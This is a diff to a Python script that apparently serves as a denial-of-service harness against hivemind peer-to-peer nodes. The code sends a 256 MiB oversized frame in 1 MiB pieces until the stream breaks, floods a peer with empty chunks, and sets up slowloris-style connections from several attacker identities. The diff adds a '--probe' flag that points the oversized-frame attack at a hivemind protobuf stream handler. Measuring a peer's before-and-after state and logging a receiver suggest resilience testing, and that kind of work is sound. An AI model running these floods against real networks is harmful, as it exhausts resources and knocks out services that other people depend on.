@@ -126,9 +126,11 @@ async def empty_chunk_flood(p2p: P2P, peer: PeerID, chunks: int = 10_000, batch:
     return {"chunks_written": sent, "seconds": round(time.monotonic() - start, 3), "reply": reply_text(raw)}
 
 
-async def oversized_frame(p2p: P2P, peer: PeerID, size: int = 256 << 20, piece: int = 1 << 20) -> dict:
+async def oversized_frame(
+    p2p: P2P, peer: PeerID, size: int = 256 << 20, piece: int = 1 << 20, handle: str = HANDLE
+) -> dict:
     """Announce one frame of `size` bytes and send all of it, 1 MiB at a time, until the stream breaks."""
-    reader, writer = await open_stream(p2p, peer)
+    reader, writer = await open_stream(p2p, peer, handle)
     body = runtime_pb2.ExpertRequest(metadata=b"\0" * piece).SerializeToString()[:piece]
     start, sent = time.monotonic(), 0
     reply = asyncio.create_task(read_until_closed(reader, 120))
@@ -312,7 +314,8 @@ async def _attack(args, receiver: Receiver) -> dict:
     out: dict = {"attack": args.attack, "before": before}
     try:
         if args.attack == "oversized":
-            out["result"] = await oversized_frame(attacker, peer, _size(args.size))
+            handle = PROBE if args.probe else HANDLE
+            out["result"] = await oversized_frame(attacker, peer, _size(args.size), handle=handle)
         elif args.attack == "flood":
             runs = [await empty_chunk_flood(attacker, peer, args.chunks) for _ in range(args.repeat)]
             out["result"] = {**runs[0], "streams": len(runs), "seconds_all": round(sum(r["seconds"] for r in runs), 3)}
@@ -365,6 +368,7 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--chunks", type=int, default=10_000)
     parser.add_argument("--streams", type=int, default=20)
     parser.add_argument("--identities", type=int, default=1, help="slowloris: attacker identities, --streams each")
+    parser.add_argument("--probe", action="store_true", help="oversized: aim at a hivemind protobuf stream handler")
     parser.add_argument("--repeat", type=int, default=1, help="flood: streams, one after another")
     parser.add_argument("--honest", type=int, default=5)
     parser.add_argument("--log", type=Path, default=None, help="where the receiver's log goes")
